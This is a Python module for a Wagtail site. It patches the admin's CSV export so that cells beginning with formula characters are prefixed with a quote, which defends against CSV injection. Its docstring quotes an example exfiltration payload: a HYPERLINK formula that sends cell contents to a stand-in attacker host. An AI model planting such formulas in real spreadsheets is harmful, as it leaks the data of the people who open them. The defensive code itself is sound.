"""The one place where every CSV download of the admin neutralises spreadsheet formulas (OWASP's "CSV injection").

Anyone may write a page feedback comment such as ``=HYPERLINK("http://evil.example/?"&A1,"Click")``; Wagtail 7.4
writes it into the CSV unchanged, and Excel or LibreOffice run it as a formula when an editor opens the file. A
text value that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, so the
spreadsheet shows it as text. Wagtail's Excel download is safe already (it stores such a cell as text).

Wagtail writes every CSV cell through ``SpreadsheetExportMixin.preprocess_field_value`` (called by
``write_csv_row``), whatever the view: our reports, every model and snippet listing, Wagtail's own reports. ``apply``
wraps that one method, so no view can forget it.

tests/cms/test_csv_exports.py fails when Wagtail writes CSV cells another way.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """``value`` as a spreadsheet shows it, never run: text that a spreadsheet would read as a formula is prefixed
    with ``'``. Anything else (numbers, dates, empty text) is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def apply():
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "csv_safe", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return csv_safe(value) if export_format == SpreadsheetExportMixin.FORMAT_CSV else value

    preprocess_field_value.csv_safe = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
